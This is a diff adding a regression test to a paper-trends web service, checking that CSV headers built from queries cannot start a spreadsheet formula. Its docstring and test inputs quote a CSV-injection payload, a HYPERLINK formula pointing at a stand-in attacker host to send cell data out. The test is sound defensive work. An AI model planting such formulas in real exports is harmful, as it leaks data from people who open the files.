@@ -281,3 +281,22 @@ def test_a_window_without_papers_says_so(corpus) -> None:
         data = c.get("/trends.json", params=args).json()
         assert data["buckets"] == [] and data["series"] == [] and "2025-01-06 to 2025-01-22" in data["warnings"][0]
         assert c.get("/api/v1/trends", params=args).json()["series"] == []
+
+
+def test_csv_cells_cannot_start_a_spreadsheet_formula(corpus) -> None:
+    """Outside review (issue 10 audit): the query is the CSV's column header, so a link such as
+    /trends.csv?q==HYPERLINK("http://evil.example/?"%26A2,"open") put a live formula into the
+    file of whoever opened it in a spreadsheet (CSV injection). Cells starting with = + - @ (or a
+    tab/CR) are written with a leading apostrophe, which spreadsheets show as text."""
+    _rows, c = corpus
+    hostile = ['=HYPERLINK("http://evil.example/","open") diffusion', "+diffusion", "-transformer diffusion",
+               "@diffusion"]  # fmt: skip
+    r = c.get("/trends.csv", params=[("q", q) for q in hostile])
+    assert r.status_code == 200, r.text[:200]
+    header = next(csv.reader(io.StringIO(r.text)))
+    labels = header[2:-1]
+    assert len(labels) == len(hostile)
+    for label in labels:
+        assert label.startswith("'") and label[1] in "=+-@", label
+    j = c.get("/trends.json", params=[("q", q) for q in hostile]).json()  # the JSON twin keeps the text as it is
+    assert [s["label"][0] for s in j["series"]] == ["=", "+", "-", "@"]
